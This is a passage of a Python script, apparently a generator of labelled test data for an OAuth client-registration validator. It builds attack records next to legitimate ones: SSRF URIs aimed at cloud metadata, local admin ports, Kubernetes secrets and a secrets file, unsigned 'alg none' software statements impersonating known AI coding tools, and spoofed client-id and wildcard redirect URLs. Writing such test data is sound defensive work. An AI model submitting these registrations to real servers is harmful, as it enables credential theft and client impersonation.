        ("Quick Notes", ["implicit"], ["token"], "https://quick-notes.app/cb"),
        ("Cursor", ["authorization_code", "implicit"], ["code", "token"], "https://cursor-callback.io/oauth"),
        ("Dashboard Widget", ["implicit"], ["id_token token"], "https://widget-host.app/auth"),
        ("ChatGPT", ["implicit"], ["token"], "https://chatgpt.com/connector_platform_oauth_redirect"),
        ("Notion", ["implicit", "authorization_code"], ["code token"], "https://notion-mcp.app/callback"),
        ("MCP Inspector", ["implicit"], ["token"], "http://localhost:6274/oauth/callback"),
        ("Calendar Sync", ["implicit"], ["token"], "https://cal-sync.app/oauth"),
        ("Open WebUI", ["implicit"], ["token", "id_token"], "https://chat.northwind.example/oauth/clients/mcp:x/callback"),
    ]
    for name, gts, rts, r in rows:
        m = {"client_name": name, "redirect_uris": [r], "grant_types": gts, "response_types": rts,
             "token_endpoint_auth_method": "none"}
        attack("implicit-grant", src, m)


def atk_ssrf():
    src = ("RFC 7591 §2 (jwks_uri is fetched by the AS) + OpenID Connect DCR 1.0 §2 (sector_identifier_uri, "
           "request_uris fetched by the OP): SSRF to RFC 6890 special-purpose / cloud-metadata addresses, "
           "as in draft-ietf-oauth-client-id-metadata-document Security Considerations")
    rows = [
        ("jwks_uri", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
        ("jwks_uri", "http://metadata.google.internal/computeMetadata/v1/?recursive=true"),
        ("jwks_uri", "http://127.0.0.1:4445/admin/clients"),
        ("jwks_uri", "http://[::1]:8080/actuator/env"),
        ("jwks_uri", "http://10.0.0.12/.well-known/jwks.json"),
        ("jwks_uri", "file:///etc/hydra/secrets.json"),
        ("jwks_uri", "http://[fd00:ec2::254]/latest/meta-data/"),
        ("sector_identifier_uri", "http://169.254.169.254/latest/user-data"),
        ("sector_identifier_uri", "http://localhost:9200/_cat/indices"),
        ("sector_identifier_uri", "https://192.168.0.1/cgi-bin/config.exp"),
        ("request_uris", ["http://127.0.0.1:2375/containers/json"]),
        ("request_uris", ["http://100.100.100.200/latest/meta-data/"]),
        ("request_uris", ["http://0.0.0.0:8500/v1/kv/?recurse"]),
        ("jwks_uri", "http://2852039166/latest/meta-data/"),   # 169.254.169.254 as a decimal integer
        ("request_uris", ["http://kubernetes.default.svc/api/v1/secrets"]),
    ]
    for i, (field, val) in enumerate(rows):
        if i % 3 == 0:
            m = {"client_name": pick(["Reporting Service", "Sync Worker", "claudeai", "Analytics Bot"]),
                 "grant_types": ["client_credentials"], "token_endpoint_auth_method": "private_key_jwt"}
        else:
            m = base_meta(pick(["Visual Studio Code", "Data Studio", "Cursor", "Partner Portal"]),
                          [f"https://{pick(EVIL_HOSTS)}/callback"], "private_key_jwt")
        m[field] = val
        attack("ssrf-metadata-uri", src, m)


def jwt(header, payload, sig=b""):
    enc = lambda o: b64url(json.dumps(o, separators=(",", ":"), ensure_ascii=False).encode())
    return f"{enc(header)}.{enc(payload)}.{b64url(sig) if sig else ''}"


def atk_software_statement():
    src = "RFC 7591 §2.3 (software statement is a JWS signed by the publisher) + RFC 8725 §3.1/§3.2 (reject alg none)"
    iat = int((NOW - timedelta(days=30)).timestamp())
    rows = [
        ({"alg": "none", "typ": "JWT"},
         {"iss": "https://anthropic.com", "software_id": "claude-code", "client_name": "Claude Code",
          "redirect_uris": ["https://claude-code-auth.app/callback"], "iat": iat},
         "Claude Code", ["https://claude-code-auth.app/callback"], b""),
        ({"alg": "None"},
         {"iss": "https://code.visualstudio.com", "software_id": "vscode", "iat": iat},
         "Visual Studio Code", ["https://vscode-dev.net/redirect"], b""),
        ({"alg": "nOnE", "typ": "JWT"},
         {"iss": "mcp-remote", "software_id": "2e6dc280-f3c3-4e01-99a7-8181dbd1d23d", "software_version": "0.1.29"},
         "MCP CLI Proxy", ["https://mcpauth.link/oauth/callback"], b""),
        ({"alg": "none"},
         {"iss": "https://github.com", "software_id": "github-copilot", "client_name": "GitHub Copilot",
          "scope": "repo admin:org"},
         "GitHub Copilot", ["https://copilot-oauth.dev/cb"], b""),
        ({"alg": "RS256", "kid": "prod-2026"},
         {"iss": "https://cursor.com", "software_id": "cursor", "client_name": "Cursor",
          "redirect_uris": ["cursor://anysphere.cursor-mcp/oauth/callback"], "iat": iat},
         "Cursor", ["https://cursor-callback.io/oauth"], bytes(rng.getrandbits(8) for _ in range(256))),
        ({"alg": "HS256", "typ": "JWT"},
         {"iss": "https://n8n.io", "software_id": "n8n", "client_name": "n8n",
          "token_endpoint_auth_method": "none"},
         "n8n", ["https://n8n-cloud.app/rest/oauth2-credential/callback"], bytes(rng.getrandbits(8) for _ in range(32))),
        ({"alg": "ES256", "kid": "1"},
         {"iss": "https://acme-reporting.example", "client_name": "Acme Reporting",
          "redirect_uris": ["https://reports.acme-reporting.example/cb"], "grant_types": ["authorization_code"]},
         "Visual Studio Code", ["https://vscode.dev/redirect", "https://mcp-oauth-relay.com/redirect"],
         bytes(rng.getrandbits(8) for _ in range(64))),
        ({"alg": "none"},
         {"iss": "https://zed.dev", "software_id": "zed", "grant_types": ["client_credentials"]},
         "Zed", [f"http://127.0.0.1:{eph_port()}/callback"], b""),
        ({"alg": "RS256"},
         {"iss": "https://openai.com", "software_id": "codex", "client_name": "Codex",
          "exp": int((NOW - timedelta(days=400)).timestamp())},
         "Codex", ["https://codex-cli.app/callback"], bytes(rng.getrandbits(8) for _ in range(256))),
        ({"alg": "none", "typ": "JWT"},
         {"iss": "https://kilo.ai", "software_id": "kilocode", "client_name": "Kilo Code",
          "redirect_uris": ["https://kilo-code.app/cb"]},
         "Kilo Code", ["https://kilo-code.app/cb"], b""),
    ]
    for header, payload, name, rs, sig in rows:
        m = base_meta(name, rs, "none")
        m["software_statement"] = jwt(header, payload, sig)
        if "software_id" in payload:
            m["software_id"] = payload["software_id"]
        attack("software-statement", src, m)


def atk_cimd():
    src = ("draft-ietf-oauth-client-id-metadata-document, Client Identifier rules (https URL with a path, "
           "no fragment, no userinfo, no dot segments; SHOULD NOT contain a query) + Security Considerations "
           "(SSRF / special-use addresses); MCP authorization 2025-11-25")
    rows = [
        ("http://evil-cb.example/oauth/client-metadata.json", "Visual Studio Code"),
        ("https://evil-cb.example/client.json#vscode", "Visual Studio Code"),
        ("https://user@evil-cb.example/client.json", "Claude Code"),
        ("https://vscode.dev@evil-cb.example/oauth/client-metadata.json", "Visual Studio Code"),
        ("https://evil-cb.example/a/../oauth/client-metadata.json", "Zed"),
        ("https://evil-cb.example/./client.json", "goose"),
        ("https://evil-cb.example", "Cursor"),
        ("https://evil-cb.example/", "ChatGPT"),
        ("https://127.0.0.1/oauth/client-metadata.json", "Claude Code"),
        ("https://169.254.169.254/latest/meta-data/client.json", "Metadata Client"),
        ("https://claude.ai.evil-cb.example/oauth/claude-code-client-metadata", "Claude Code"),
        ("https://vscode.dev/oauth/client-metadata.json?redirect=https://evil-cb.example", "Visual Studio Code"),
        ("https://zed.dev%2f@evil-cb.example/oauth/client-metadata.json", "Zed"),
        ("https://[::1]/client-metadata.json", "Local Tool"),
    ]
    for cid, name in rows:
        m = base_meta(name, [f"https://evil-cb.example/callback" if rng.random() < 0.5
                             else f"http://127.0.0.1:{eph_port()}/callback"], "none")
        attack("cimd-client-id", src, m, client_id=cid)


def atk_redirect_syntax():
    src = "RFC 6749 §3.1.2 (absolute URI, no fragment) + RFC 9700 §4.1.3 (exact matching, no wildcards)"
    rows = [
        ("Claude Code", ["http://localhost:*/callback"]),
        ("Partner Sync", ["https://*.evil-cb.example/callback"]),
        ("Visual Studio Code", ["https://vscode.dev/redirect#https://evil-cb.example"]),
        ("MCP Inspector", ["/oauth/callback"]),
        ("claudeai", ["https://claude.ai/api/mcp/auth_callback https://evil-cb.example/cb"]),
        ("Cursor", ["https://evil-cb.example/*"]),
        ("Zed", ["http://127.0.0.1:0/callback", "https://evil-cb.example/cb?x=*"]),
    ]
    for name, rs in rows:
        attack("redirect-syntax", src, base_meta(name, rs, "none"))


def main():
    # legit: real clients
    for f in (zed, zed_cimd, continue_dev, roo_code, kilo_code, kilo_code_legacy, crush, codex,
              codex_v0, qwen_code, qwen_code_gemini_adc, opencode, deepcode_fork, open_webui, dify,
              n8n, mcpjam, mcpjam_debug, cherry_studio, cockpit_fork, cloudflare_agents,
              fastmcp_client, python_sdk_example, rmcp_example, rmcp_default, amazon_q,
              mcp_go_example, metamcp, witsy, langflow, mcp_use):
        f()
    # legit: operator apps and machine clients
    for f in (operator_web_apps, operator_marketing_sites, operator_native_apps, operator_spas,
              operator_dev_tools, operator_i18n_and_odd, selfhosted_librechat_like, machine_clients):
        f()
    # attacks
    for f in (atk_impersonation, atk_noncanonical_host, atk_loopback_lookalike, atk_dangerous_scheme,
              atk_open_redirect_chain, atk_display_spoof, atk_confusable_names, atk_invisible_chars,
              atk_authority_claim, atk_public_privileged_grant, atk_implicit, atk_ssrf,
              atk_software_statement, atk_cimd, atk_redirect_syntax):
        f()
    with open(OUT, "w", encoding="utf-8") as fh:
        for r in RECORDS:
            fh.write(json.dumps(r, ensure_ascii=False, separators=(",", ":")) + "\n")
    kinds = {}
    for r in RECORDS:
        kinds[r["kind"]] = kinds.get(r["kind"], 0) + 1
    print(f"wrote {len(RECORDS)} records to {OUT}: {kinds}")


if __name__ == "__main__":
    main()
